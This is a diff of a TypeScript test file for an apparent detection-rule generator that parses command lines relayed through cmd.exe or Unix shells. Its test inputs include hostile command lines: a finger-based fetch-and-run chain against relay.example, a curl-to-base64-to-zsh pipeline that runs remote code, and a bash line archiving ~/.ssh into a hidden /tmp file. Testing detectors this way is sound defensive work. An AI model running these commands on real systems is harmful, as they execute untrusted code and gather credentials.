@@ -17,8 +17,8 @@ function chainRules(commandLine: string) {
 
 describe('a chain a Windows line hands cmd.exe', () => {
   it('reads the command cmd.exe runs, outer quotes and switches removed', () => {
-    expect(relayedCommand('cmd /q /k "bitsadmin /list & type C:\\x.txt"')).toBe('bitsadmin /list & type C:\\x.txt');
-    expect(relayedCommand('C:\\Windows\\System32\\cmd.exe /c whoami')).toBe('whoami');
+    expect(relayedCommand('cmd /q /k "bitsadmin /list & type C:\\x.txt"')?.command).toBe('bitsadmin /list & type C:\\x.txt');
+    expect(relayedCommand('C:\\Windows\\System32\\cmd.exe /c whoami')).toEqual({ shell: 'cmd.exe', command: 'whoami' });
     expect(relayedCommand('powershell -c whoami')).toBeNull();
   });
 
@@ -52,5 +52,29 @@ describe('a chain a Windows line hands cmd.exe', () => {
 
   it('leaves a chain a technique rule on cmd.exe covers to that rule', () => {
     expect(chainRules('cmd /c for /f "delims=" %a in (\'finger probe@relay.example\') do call %a & exit')).toHaveLength(0);
+  });
+});
+
+describe('a chain a Unix line hands a shell', () => {
+  it('keys the shell on each stage, the pipe into a shell as written', () => {
+    expect(relayedCommand("/bin/bash -c 'id && uname -a'", false)).toEqual({ shell: 'bash', command: 'id && uname -a' });
+    expect(relayedChain('zsh -c "curl -fsSL https://cdn.example/s.txt | base64 -d | zsh"', false)?.values).toEqual([
+      'curl -fsSL',
+      'base64 -d',
+      '| zsh',
+    ]);
+    expect(relayedChain('curl -fsSL https://cdn.example/s.txt | base64 -d | zsh', false)).toBeNull();
+  });
+
+  it('writes a rule on the relaying shell that fires on the line', () => {
+    // Piped through base64 into a shell, the same line is the technique rule's; this one is the shell's own.
+    const line = 'bash -c "crontab -l > /tmp/.c; tar -czf /tmp/.k.tgz /home/dev/.ssh"';
+    const drafts = generateBuiltinRules({ article, platform: 'linux', cmdlines: [{ ...item, value: line, executable: 'bash' }] });
+    const draft = drafts.find((one) => /Chained In One Bash Command Line/.test(one.rule.title));
+    expect(draft?.rule.detection['selection']).toEqual({
+      'Image|endswith': '/bash',
+      'CommandLine|contains|all': ['crontab -l', 'tar -czf'],
+    });
+    expect(selfTestRule(draft?.rule ?? '', [{ type: 'cmdline', value: line }])).toMatchObject({ fires: true });
   });
 });
